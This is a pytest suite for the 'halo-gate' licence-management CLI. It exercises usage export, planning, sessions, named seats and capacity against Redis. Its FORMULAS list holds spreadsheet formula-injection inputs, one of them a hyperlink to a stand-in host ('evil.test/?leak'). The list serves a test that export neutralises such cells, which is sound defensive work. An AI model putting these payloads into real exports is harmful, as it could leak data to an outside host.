"""``halo-gate`` administrators' commands against the real Redis: a scripted day exported,
planned and recommended, and the reading and changing commands."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from redis.asyncio import Redis

from halo_gate.cli import main
from halo_gate.licensing import LicenceEngine
from tests.conftest import REDIS_URL, drop_instance, unique_instance

from .test_recommend import record_idlers

IDLE = 1800


@pytest.fixture
def instance(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    name = unique_instance()
    for variable, value in {
        "SECRET_KEY": "a-test-signing-key-0123456789",
        "OIDC_ISSUER": "http://127.0.0.1:9/issuer",
        "OIDC_CLIENT_ID": "client",
        "OIDC_CLIENT_SECRET": "secret",
        "REDIS_URL": REDIS_URL,
        "INSTANCE": name,
        "PRICE_NAMED": "100",
        "PRICE_CONCURRENT": "140",
    }.items():
        monkeypatch.setenv("HALO_GATE_" + variable, value)
    yield name

    async def drop() -> None:
        store = Redis.from_url(REDIS_URL)
        await drop_instance(store, name)
        await store.aclose()

    asyncio.run(drop())


def on(instance: str, script: Any) -> Any:
    """Runs ``script(engine)`` on the installation, on a connection of its own."""

    async def run() -> Any:
        engine = LicenceEngine(Redis.from_url(REDIS_URL), instance=instance, idle_timeout=IDLE)
        try:
            return await script(engine)
        finally:
            await engine.store.aclose()

    return asyncio.run(run())


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


async def audit_at(engine: LicenceEngine) -> dict[tuple[str, str], int]:
    """(event, session) -> the scripts' clock (ms) at that event."""
    entries: Any = await engine.store.xrange(engine.keys.audit)
    found = {}
    for _, fields in entries:
        f = {k.decode(): v.decode() for k, v in fields.items()}
        found[(f["event"], f["session"])] = int(f["at"])
    return found


async def scripted_day(engine: LicenceEngine) -> dict[tuple[str, str], int]:
    await engine.configure(concurrent_seats=3, named_seats=1, named_users=["nan@x.org"])
    await engine.admit("nan@x.org", "nan-1")
    for i in range(10):
        await engine.admit(f"p{i}@x.org", f"p{i}")
        await engine.release(f"p{i}@x.org", f"p{i}")
    await engine.admit("ida@x.org", "ida-1")  # idles out
    await engine.admit("adm@x.org", "adm-1")
    await engine.end_session("adm@x.org", "adm-1", by="root@x.org")
    engine.clock_offset += IDLE + 5
    await engine.usage()  # culls ida and nan
    return await audit_at(engine)


def test_export_of_a_scripted_day_is_exact_and_plan_and_recommend_agree(
    instance: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    at = on(instance, scripted_day)
    status, out, err = run_cli(capsys, "export", "--since", "2000-01-01", "--until", "2100-01-01")
    assert status == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["person", "licence", "start", "end", "end_reason"]

    def iso(ms: int) -> str:
        from halo_gate.admin.export import iso as to_iso

        return to_iso(ms // 1000)

    expected = [
        [
            f"p{i}@x.org",
            "concurrent",
            iso(at[("admitted", f"p{i}")]),
            iso(at[("released", f"p{i}")]),
            "logout",
        ]
        for i in range(10)
    ]
    expected.append(
        [
            "adm@x.org",
            "concurrent",
            iso(at[("admitted", "adm-1")]),
            iso(at[("ended", "adm-1")]),
            "admin",
        ]
    )
    idle_rows = {
        "nan-1": ["nan@x.org", "named"],
        "ida-1": ["ida@x.org", "concurrent"],
    }
    tail = sorted(rows[len(expected) + 1 :])
    assert rows[1 : len(expected) + 1] == expected
    assert tail == sorted(
        [
            [*who, iso(at[("admitted", sid)]), iso(at[("admitted", sid)] + IDLE * 1000), "idle"]
            for sid, who in idle_rows.items()
        ]
    )
    assert len(rows) == 1 + 13

    path = tmp_path / "usage.csv"
    path.write_text(out)
    status, planned, err = run_cli(
        capsys,
        "plan",
        str(path),
        "--json",
        "--price-named",
        "100",
        "--price-concurrent",
        "140",
        "--current-named",
        "1",
        "--current-concurrent",
        "3",
    )
    assert status == 0, err
    status, recommended, err = run_cli(capsys, "recommend", "--json")
    assert status == 0, err
    assert json.loads(recommended) == json.loads(planned)


FORMULAS = [
    '=hyperlink("http://evil.test/?leak","open me")',
    "+1+1@x.org",
    "-2@x.org",
    "@sum(a1)@x.org",
    "'=already-quoted@x.org",
]


def test_export_neutralises_formula_cells_and_plan_reads_them_back(
    instance: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    async def setup(engine: LicenceEngine) -> None:
        await engine.configure(concurrent_seats=10, named_seats=0)
        for number, who in enumerate([*FORMULAS, "plain@x.org"]):
            await engine.admit(who, f"s{number}")
            await engine.release(who, f"s{number}")

    on(instance, setup)
    status, out, err = run_cli(capsys, "export", "--since", "2000-01-01", "--until", "2100-01-01")
    assert status == 0, err
    people = [row[0] for row in csv.reader(io.StringIO(out))][1:]
    assert sorted(people) == sorted(["'" + who for who in FORMULAS] + ["plain@x.org"])
    path = tmp_path / "usage.csv"
    path.write_text(out)
    from halo_gate.planner import read_usage_file

    assert sorted(read_usage_file(path).people) == sorted([*FORMULAS, "plain@x.org"])
    status, _, err = run_cli(
        capsys, "plan", str(path), "--json", "--price-named", "100", "--price-concurrent", "140"
    )
    assert status == 0, err


def test_status_json_is_the_usage_object(instance: str, capsys: pytest.CaptureFixture[str]) -> None:
    async def setup(engine: LicenceEngine) -> Any:
        await engine.configure(concurrent_seats=4, named_seats=2, named_users=["nan@x.org"])
        await engine.admit("bob@x.org", "bob-1")
        return (await engine.usage()).as_json()

    usage = on(instance, setup)
    status, out, _ = run_cli(capsys, "status", "--json")
    assert status == 0 and json.loads(out) == usage
    status, out, _ = run_cli(capsys, "status")
    assert "1 in use of 4" in out


def test_sessions_named_capacity_and_events(
    instance: str, capsys: pytest.CaptureFixture[str]
) -> None:
    async def setup(engine: LicenceEngine) -> None:
        await engine.configure(concurrent_seats=4, named_seats=1)
        await engine.admit("bob@x.org", "bob-1")
        await engine.admit("cat@x.org", "cat-1")

    on(instance, setup)
    status, out, _ = run_cli(capsys, "sessions", "list", "--json", "--search", "BOB")
    listed = json.loads(out)
    assert [s["session_id"] for s in listed["sessions"]] == ["bob-1"]
    assert set(listed["sessions"][0]) >= {"session_id", "user", "licence", "since", "last_seen"}
    assert run_cli(capsys, "sessions", "end", "bob-1")[0] == 0
    status, _, err = run_cli(capsys, "sessions", "end", "bob-1")
    assert status == 1 and "no live session" in err
    assert run_cli(capsys, "named", "add", "cat@x.org")[0] == 0
    status, _, err = run_cli(capsys, "named", "add", "dan@x.org")
    assert status == 1 and "no named seat" in err
    status, out, _ = run_cli(capsys, "named", "list", "--json")
    assert json.loads(out)["assigned"] == [{"person": "cat@x.org", "active": True}]
    assert run_cli(capsys, "named", "remove", "cat@x.org")[0] == 0
    status, _, err = run_cli(capsys, "named", "add", "dan@x.org")
    assert status == 1 and "cools down" in err
    for bad in ("100000000000000000000", "10000001", "²"):
        with pytest.raises(SystemExit):
            main(["capacity", "set", "--concurrent", bad])
        assert "is not a whole number from 0 to 10,000,000" in capsys.readouterr().err
    status, out, _ = run_cli(capsys, "capacity", "set", "--concurrent", "7")
    assert status == 0 and "concurrent slots 7, named seats 1" in out
    status, out, _ = run_cli(capsys, "events", "--json", "--event", "resized", "--limit", "1")
    assert json.loads(out)["reason"] == "cli concurrent=7 named=1"
    status, out, _ = run_cli(capsys, "events", "--person", "bob@x.org")
    assert [line.split()[2] for line in out.splitlines()] == ["admitted", "ended"]


def test_licences_list_and_end(instance: str, capsys: pytest.CaptureFixture[str]) -> None:
    firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

    async def setup(engine: LicenceEngine) -> None:
        await engine.configure(concurrent_seats=4, named_seats=0)
        await engine.admit("bob@x.org", "bob-1", user_agent=firefox, address="10.0.0.7")
        await engine.admit("bob@x.org", "bob-2", user_agent="", address="10.0.0.8")
        await engine.admit("cat@x.org", "cat-1")

    on(instance, setup)
    status, out, _ = run_cli(capsys, "licences", "list", "--json", "--search", "bob")
    listed = json.loads(out)
    assert listed["total"] == 1 and listed["limit"] == 50
    [bob] = listed["licences"]
    assert [(s["device"], s["address"]) for s in bob["sessions"]] == [
        ("Firefox 128 on Linux", "10.0.0.7"),
        ("unknown", "10.0.0.8"),
    ]
    status, out, _ = run_cli(capsys, "licences", "list")
    assert status == 0 and "2 licence holders" in out and "Firefox 128 on Linux 10.0.0.7" in out
    status, out, _ = run_cli(capsys, "licences", "end", "BOB@x.org")
    assert status == 0 and "bob@x.org: concurrent licence freed, 2 sessions ended" in out
    status, _, err = run_cli(capsys, "licences", "end", "bob@x.org")
    assert status == 1 and err == "halo-gate: bob@x.org holds no licence.\n"
    # A session without a note (admitted by no sign-in) is found by walking the holders.
    status, out, _ = run_cli(capsys, "sessions", "end", "cat-1")
    assert status == 0 and "cat@x.org holds no licence now" in out


def test_bad_settings_and_unreachable_parts_are_one_sentence_each(
    instance: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    status, out, err = run_cli(capsys, "check")
    assert status == 1
    assert "'secret'" not in out and "a-test-signing-key" not in out
    # A readable table: one setting a line, secrets masked, where each value came from.
    lines = out.splitlines()
    assert lines[0].split() == ["HALO_GATE_SECRET_KEY", "********", "(set)"]
    assert f"HALO_GATE_INSTANCE {instance} (set)" in [" ".join(line.split()) for line in lines]
    assert "HALO_GATE_CONCURRENT_SEATS 10 (default)" in [" ".join(line.split()) for line in lines]
    assert "discovery document http://127.0.0.1:9/issuer" in err and "Traceback" not in err
    monkeypatch.setenv("HALO_GATE_REDIS_URL", "redis://127.0.0.1:9/0")
    status, _, err = run_cli(capsys, "status")
    assert status == 1 and err.startswith("halo-gate: the licence store did not answer")
    monkeypatch.setenv("HALO_GATE_CONCURRENT_SEATS", "many")
    status, _, err = run_cli(capsys, "status")
    assert status == 1 and "HALO_GATE_CONCURRENT_SEATS has value 'many'" in err


def test_events_follow_prints_new_events_as_they_come(instance: str) -> None:
    async def admit(engine: LicenceEngine, who: str) -> None:
        await engine.configure(concurrent_seats=4, named_seats=0)
        await engine.admit(who, who + "-1")

    on(instance, lambda engine: admit(engine, "first@x.org"))
    command = [sys.executable, "-m", "halo_gate.cli", "events", "--follow", "--event", "admitted"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as follower:
        assert follower.stdout is not None
        watchdog = threading.Timer(30, follower.kill)  # a hung follower fails, never hangs
        watchdog.start()
        try:
            assert "first@x.org" in follower.stdout.readline().decode()
            on(instance, lambda engine: admit(engine, "later@x.org"))
            assert "later@x.org" in follower.stdout.readline().decode()
        finally:
            watchdog.cancel()
            follower.kill()


def test_without_a_store_url_an_installation_command_refuses_in_one_sentence(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for variable in ("REDIS_URL", "SECRET_KEY", "OIDC_ISSUER", "OIDC_CLIENT_ID"):
        monkeypatch.delenv("HALO_GATE_" + variable, raising=False)
    for argv in (("status",), ("licences", "list"), ("named", "add", "x@y.org"), ("events",)):
        status, out, err = run_cli(capsys, *argv)
        assert (status, out) == (1, ""), argv
        assert err == (
            "halo-gate: the embedded store lives inside the application's process; set "
            "HALO_GATE_REDIS_URL to the installation's Redis.\n"
        )


def test_reading_needs_only_the_store_settings(
    instance: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    on(instance, lambda engine: engine.configure(concurrent_seats=3, named_seats=0))
    for variable in ("SECRET_KEY", "OIDC_ISSUER", "OIDC_CLIENT_ID", "OIDC_CLIENT_SECRET"):
        monkeypatch.delenv("HALO_GATE_" + variable)
    status, out, _ = run_cli(capsys, "status", "--json")
    assert status == 0 and json.loads(out)["concurrent"]["seats"] == 3
    status, out, _ = run_cli(capsys, "sessions", "list", "--json")
    assert status == 0 and json.loads(out)["limit"] == 50  # a page, not a sentinel
    monkeypatch.setenv("HALO_GATE_INSTANCE", "no-such-installation")
    status, _, err = run_cli(capsys, "status")
    assert status == 1 and "holds no installation named 'no-such-installation'" in err


def test_capacity_set_takes_pool_rules(instance: str, capsys: pytest.CaptureFixture[str]) -> None:
    on(instance, lambda engine: engine.configure(concurrent_seats=10, named_seats=0))
    status, out, _ = run_cli(capsys, "capacity", "set", "--reserve", "hr=2", "--cap", "hr=4,it=3")
    assert status == 0 and out == "reserved for groups hr=2, group caps hr=4,it=3\n"
    status, out, _ = run_cli(capsys, "capacity", "set", "--concurrent", "12", "--cap", "none")
    assert status == 0 and out.splitlines() == [
        "concurrent slots 12, named seats 0",
        "reserved for groups hr=2, group caps none",
    ]
    status, _, err = run_cli(capsys, "capacity", "set", "--reserve", "hr=20")
    assert status == 1 and "add up to 20 slots, more than the pool's 12" in err
    status, _, err = run_cli(capsys, "capacity", "set")
    assert status == 1 and "give --concurrent N" in err
    rules = on(instance, lambda engine: engine.pools())
    assert (rules.reserve, rules.cap) == ((("hr", 2),), ())


def test_status_counts_the_people_harvested(
    instance: str, capsys: pytest.CaptureFixture[str]
) -> None:
    async def setup(engine: LicenceEngine) -> None:
        harvesting = LicenceEngine(
            engine.store, instance=instance, idle_timeout=IDLE, harvest_idle=600
        )
        await harvesting.configure(concurrent_seats=1, named_seats=0)
        harvesting.clock_offset = -601
        await harvesting.admit("a@x.org", "a")
        harvesting.clock_offset = 0
        assert (await harvesting.admit("b@x.org", "b")).harvested_sessions == ("a",)

    on(instance, setup)
    status, out, _ = run_cli(capsys, "status")
    assert status == 0 and "over 24 h: peak 1, 0 denied, 1 harvested" in out
    status, out, _ = run_cli(capsys, "status", "--json")
    assert json.loads(out)["concurrent"]["harvested_24h"] == 1


def test_recommend_says_what_harvesting_would_have_saved(
    instance: str, capsys: pytest.CaptureFixture[str]
) -> None:
    async def setup(engine: LicenceEngine) -> None:
        engine.clock_offset = -6 * 3600  # the record ends half an hour ago
        await record_idlers(engine)

    on(instance, setup)
    status, out, err = run_cli(capsys, "recommend")
    assert status == 0, err
    lines = out.splitlines()
    assert lines[0].startswith("recommended: 0 named, 2 concurrent")
    assert "Harvesting after 10 minutes would have needed 1 fewer slot (£1,680 a year)." in lines
